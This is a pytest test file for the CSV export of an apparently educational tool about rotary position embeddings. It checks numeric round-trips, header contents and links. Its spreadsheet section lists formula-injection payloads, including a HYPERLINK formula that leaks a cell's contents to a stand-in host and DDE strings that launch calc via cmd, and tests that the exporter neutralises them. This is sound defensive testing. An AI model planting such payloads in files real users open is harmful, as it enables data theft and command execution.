"""The file of numbers is read back by other programs: every digit, what the header says, and nothing that a spreadsheet would run."""

import csv
import io
import re
from dataclasses import replace
from urllib.parse import parse_qs, urlsplit

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from exports.csv_file import harmless, number_lines, original, write_csv
from lessons.columns import COLUMNS, tables
from lessons.registry import PAGES
from parameters.settings import Settings
from rope_core import __version__
from tests.evaluate import settings_of
from tests.views import each_option_once, look, snapshot_of, traces, view_of

TYPED = {"vectors": "typed", "layout": "interleaved", "q_head": "1 -2 0.5 3 4", "k_head": "0.3, 1, 1", "rotary": "0.5"}


def lines_of(page, language="en", /, **address):
    return write_csv(snapshot_of(page, language, **address)).decode().splitlines()


def numbers_of(file):
    return pd.read_csv(io.BytesIO(file), comment="#")


def numbers(values):
    """Return the numbers of a trace, without texts and gaps."""
    array = pd.to_numeric(pd.Series(np.ravel(values)), errors="coerce").to_numpy(float)
    return array[np.isfinite(array)]


def is_among(drawn, column):
    """Return for each number whether one is drawn that agrees in three digits."""
    after = np.searchsorted(drawn, column).clip(1, len(drawn) - 1)
    nearest = np.minimum(np.abs(drawn[after] - column), np.abs(drawn[after - 1] - column))
    return np.asarray(nearest <= 1e-3 * np.abs(column))


class TestNumbers:
    def test_pandas_and_numpy_read_the_numbers_that_are_drawn(self):
        snapshot = snapshot_of("decay", **TYPED)
        file = write_csv(snapshot)
        high, low = traces(snapshot.view)
        frame = numbers_of(file)
        skipped = file.decode().count("\n#") + 2  # the lines above the numbers
        array = np.loadtxt(io.BytesIO(file), delimiter=",", skiprows=skipped)
        for index, (name, drawn) in enumerate((("distance", high["x"]), ("lowest", low["y"]), ("highest", high["y"]))):
            assert list(array[:, index]) == list(drawn)
            np.testing.assert_allclose(frame[name], drawn, rtol=1e-15)

    def test_every_number_comes_back_as_it_was(self):
        column = [0.1, 1 / 3, 5e-324, -1.7976931348623157e308, 2**53, 1e22, -0.0]
        columns = {"a": column, "b": np.array(column), "c": np.arange(7)}
        header, *rows = csv.reader(io.StringIO(number_lines(columns)))
        assert header == ["a", "b", "c"]
        for back, want in zip(zip(*rows, strict=True), columns.values(), strict=True):
            assert [float(cell).hex() for cell in back] == [float(cell).hex() for cell in want]

    def test_shorter_columns_end_in_empty_cells(self):
        assert number_lines({"a": [1], "b": [1, 2]}).split() == ["a,b", "1.0,1.0", ",2.0"]

    def test_file_of_the_start_page_holds_pair_speed_and_both_hands(self):
        columns = numbers_of(write_csv(snapshot_of("start", start_view="two", gap="5", base="500000", head_dim="64")))
        np.testing.assert_allclose(columns["theta"], [500_000 ** (-2 * pair / 64) for pair in columns["pair"]], rtol=1e-13)
        np.testing.assert_allclose(columns["angle_rad"], 12 * columns["theta"], rtol=1e-15)
        np.testing.assert_allclose(columns["second_angle_rad"], 17 * columns["theta"], rtol=1e-15)

    def test_files_of_bounds_and_spectrum_hold_every_curve(self):
        for view, names in (("bound", ("highest", "lowest", "bound", "relative")), ("spectrum", ("amplitude", "resolved_amplitude"))):
            snapshot = snapshot_of("decay", decay_view=view)
            shown = [list(trace["y"]) for trace in traces(snapshot.view)]
            columns = numbers_of(write_csv(snapshot))
            assert all(list(columns[name].dropna()) in shown for name in names)

    def test_file_of_both_shifted_is_the_two_lines_that_are_drawn_to_the_last_digit(self):
        snapshot = snapshot_of("pair", pair_view="shift")
        lines = [trace for trace in traces(snapshot.view) if trace["mode"] == "lines" and trace.get("xaxis") == "x2"]
        columns = numbers_of(write_csv(snapshot))
        assert [list(columns["score_rope"]), list(columns["score_additive"])] == [list(trace["y"]) for trace in lines]

    @pytest.mark.parametrize("page", PAGES)
    def test_every_view_has_a_file_with_numbers_of_its_figure(self, page, subtests):
        for settings in each_option_once(page):
            with subtests.test(settings=settings.write()):
                view = PAGES[page].view(settings)
                columns = numbers_of(number_lines(view.columns).encode())
                assert list(columns) == list(view.columns)
                drawn = np.sort(np.concatenate([numbers(trace.get(axis, [])) for trace in traces(view) for axis in "xyz"]))
                found = [is_among(drawn, columns[column].dropna()) for column in columns]
                assert page == "start" or np.concatenate(found).mean() >= 0.4


class TestHeader:
    def test_says_settings_layout_units_and_version(self):
        lines = lines_of("decay", **TYPED)
        assert lines[0] == f"# RoPE Lab {__version__}: {PAGES['decay'].question}"
        assert "# layout = interleaved (Layout)" in lines
        assert "# q_head = 1 -2 0.5 3 4 (q)" in lines
        assert "# column distance: tokens" in lines
        assert "# column lowest: score units" in lines

    def test_says_so_where_no_layout_counts(self):
        assert any(line.startswith("# layout = any") for line in lines_of("bases", bases_view="critical"))

    @pytest.mark.parametrize("page", PAGES)
    def test_its_link_opens_the_same_figure(self, page):
        for values in ({}, *(each.values for each in PAGES[page].tries(Settings(page)))):
            settings = settings_of(page, base="500000").replace(**values)
            lines = lines_of(page, **settings.write())
            link = next(line.removeprefix("# link: ") for line in lines if line.startswith("# link: "))
            query = {name: values[0] for name, values in parse_qs(urlsplit(link).query, keep_blank_values=True).items()}
            assert query.pop("lang") == "en"
            assert settings_of(page, **query) == settings
            assert look(view_of(page, **query)) == look(PAGES[page].view(settings))

    def test_every_digit_of_a_value_is_in_the_link_and_in_the_row(self):
        lines = lines_of("start", base="10000.123456789012345")
        assert "# base = 10000.123456789011 (Base b: 10,000.123456789)" in lines
        assert any("base=10000.123456789011" in line for line in lines if line.startswith("# link"))

    def test_speaks_the_language_of_the_file(self):
        lines = lines_of("start", "zh-CN")
        assert any(line.startswith("# base = 10000 (基数") for line in lines)

    def test_no_setting_can_break_out_of_it(self):
        lines = lines_of("pair", q="1\n2\n")
        assert all(line.startswith("#") for line in lines[: lines.index("# q = 1 2 (q)") + 1])

    def test_every_column_is_known(self):
        assert {unit.unit for unit in COLUMNS.values()} >= {"tokens", "rad", "rad per token", "index"}

    def test_columns_are_taken_apart_where_another_axis_begins(self):
        names = dict.fromkeys(("distance", "bound", "relative", "bin", "lowest"), ())
        assert list(tables(names)) == [(["distance"], ["bound", "relative"]), (["bin"], ["lowest"])]
        assert list(tables({"q_before": (), "k_before": ()})) == [([], ["q_before", "k_before"])]


LINK = '=HYPERLINK("http://example.invalid/?x="&A1,"open me")'
HOSTILE = (
    LINK,
    f"theta,{LINK}",
    f"theta;{LINK}",
    f"theta, {LINK}",
    f'x,"{LINK}"',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "a\n=1+1",
    "＝1+1",
    "'=1+1",
    'x|"@SUM(A1)"',
)
RUNS = re.compile(r"""[\s"]*[=+\-@＝＋－＠\t\r]""")


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def cells(text, separator):
    """Take a file apart as a spreadsheet that takes this for the mark between two cells."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=False) for cell in row]


class TestSpreadsheets:
    @pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
    @pytest.mark.parametrize("text", HOSTILE)
    def test_no_cell_of_a_file_is_run(self, text, separator):
        snapshot = snapshot_of("glossary", term=text[:80])
        columns = dict(snapshot.view.columns) | {text: np.zeros(len(next(iter(snapshot.view.columns.values()))))}
        file = write_csv(replace(snapshot, view=replace(snapshot.view, columns=columns))).decode()
        assert [cell for cell in cells(file, separator) if RUNS.match(cell) and not is_number(cell)] == []

    @pytest.mark.parametrize("text", HOSTILE)
    def test_a_name_says_the_same_when_it_is_read_back(self, text):
        header, *_rows = csv.reader(io.StringIO(number_lines({text: [1.0]}), newline=""))
        assert [original(name) for name in header] == [" ".join(text.split())]

    @given(st.text(st.sampled_from("=+-@'\"\t\r\n,;| 1.5ae"), max_size=12))
    def test_every_text_is_harmless_and_comes_back(self, text):
        safe = harmless(text)
        assert original(safe) == text
        for cell in re.split(r"[,;|\t\r\n]", safe):
            assert not RUNS.match(cell) or is_number(cell.strip(")]} "))

    @pytest.mark.parametrize("text", ["1, -2, 0.5", "-3", '{"rope_type":"yarn","factor":4,"mscale":-1}', "1e-5,-2e+3", "a = b", "plain"])
    def test_what_no_spreadsheet_runs_stays_as_it_is(self, text):
        assert harmless(text) == text
